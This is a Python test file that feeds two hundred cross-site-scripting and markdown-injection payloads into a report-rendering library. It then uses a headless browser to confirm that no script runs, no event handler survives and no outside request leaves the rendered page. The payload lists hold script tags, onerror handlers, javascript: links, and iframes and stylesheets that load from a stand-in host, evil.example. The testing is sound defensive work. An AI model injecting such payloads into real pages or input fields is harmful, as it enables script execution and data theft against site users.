"""Whatever stands in names, pupils' writing, columns and notes, a page shows it as text."""

from functools import cache
from itertools import product
from pathlib import Path

import pytest
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output

from writinggaps.report.faces import Figure, Prose, Table
from writinggaps.report.figures.canvas import axes, svg
from writinggaps.report.words.language import plain
from writinggaps.run.page import Heading, render

BAD = [
    "<script>parent.hit = 1</script>",
    "<img src=x onerror=hit()>",
    "<svg onload=hit()>",
    "<svg><script href=//evil.example/x.js /></svg>",
    "<a href='javascript:hit()'>go</a>",
    "<iframe src=//evil.example></iframe>",
    "<object data=//evil.example/x></object>",
    "<embed src=//evil.example/x>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'; body { background: url(//evil.example/y) }</style>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input autofocus onfocus=hit()></form>",
    "<video><source onerror=hit()></video>",
    "<math><mtext></mtext><script>hit()</script></math>",
    "![x](http://evil.example/a.png)",
    "[x](javascript:hit())",
    "[x]: http://evil.example 'x'\n\n[x]",
    "<http://evil.example/>",
    "$\\frac{ $ and `code` and ~~~\n```html",
]
AROUND = [
    "{}",
    "4A {} 4B",
    '"> {}',
    "'> {}",
    "</td></table> {}",
    "</title></textarea> {}",
    "--> {} <!--",
    "]]> {} <![CDATA[",
    "</svg> {}",
    "\u202e{}\ufeff",
]
PAYLOADS = [around.format(bad) for bad, around in product(BAD, AROUND)]


@cache
def drawing():
    """All hostile texts in one drawing: drawing two hundred takes a minute."""
    figure, _ = axes(1.0)
    for text in PAYLOADS:
        figure.text(0.1, 0.5, text)
    return svg(figure)


def faces(text):
    table = Table(caption=f"By {text}", columns=("class", text), rows=((text, text),), note=text)
    yield Prose(f"In {plain(text)} most were secure.")
    yield Prose(f"In {text} most were secure.")  # where somebody forgot `plain`
    yield table
    drawn = drawing() if text == PAYLOADS[0] else "<svg/>"
    yield Figure(title=text, subtitle=f"of {text}", alt=text, svg=drawn, data=table)


@pytest.fixture(scope="module")
def page(tmp_path_factory):
    cells = [new_markdown_cell("# What is secure?")]
    for text in PAYLOADS:
        for face in faces(text):
            output = new_output("display_data", data=face._repr_mimebundle_())
            cells.append(new_code_cell("", outputs=[output]))
    html = render(new_notebook(cells=cells), Heading(PAYLOADS[2], "2025-26-autumn", "public"))
    path = tmp_path_factory.mktemp("hostile") / "page.html"
    path.write_text(html, encoding="utf-8")
    return path


FOUND = """() => {
    const all = [...document.querySelectorAll('*')];
    const names = e => [...e.attributes].map(a => a.name);
    const outside = /^\\s*(javascript|data(?!:text\\/csv;)|https?|\\/\\/)/i;
    return {
        scripts: all.filter(e => e.localName === 'script').length,
        handlers: all.filter(e => names(e).some(n => n.startsWith('on'))).length,
        active: all.filter(e =>
            /^(iframe|object|embed|link|base|form|input|video|img|meta)$/.test(e.localName)
            && !(e.localName === 'meta' && (e.name || e.hasAttribute('charset')))).length,
        outside: all.filter(e => ['href', 'src', 'action', 'xlink:href'].some(
            n => outside.test(e.getAttribute(n) || ''))).length,
        hit: Number(window.hit !== undefined),
        tables: document.querySelectorAll('table').length,
        figures: document.querySelectorAll('figure').length,
    };
}"""


@pytest.mark.browser
def test_two_hundred_hostile_texts_make_no_script_no_handler_and_no_request(page):
    playwright = pytest.importorskip("playwright.sync_api")
    chromium = next(
        (p for p in map(Path, ["/usr/bin/chromium", "/usr/bin/google-chrome"]) if p.exists()), None
    )
    if chromium is None:
        pytest.skip("no browser is installed")
    requests = []
    with playwright.sync_playwright() as started:
        browser = started.chromium.launch(executable_path=str(chromium), args=["--no-sandbox"])
        tab = browser.new_page()
        tab.on("request", lambda request: requests.append(request.url))
        tab.goto(page.as_uri())
        found = tab.evaluate(FOUND)
        browser.close()

    assert len(PAYLOADS) == 200
    assert requests == [page.as_uri()]
    assert found == {
        "scripts": 0,
        "handlers": 0,
        "active": 0,
        "outside": 0,
        "hit": 0,
        "tables": 400,
        "figures": 200,
    }


def test_text_made_plain_reads_as_it_was_written():
    assert plain("4A & B <i>*x*</i> [y](z) #1").count("<") == 0
    assert "&lt;i&gt;" in plain("<i>")


def test_a_sentence_about_a_hostile_name_stays_one_paragraph():
    for text in PAYLOADS:
        assert "\n" not in plain(text)
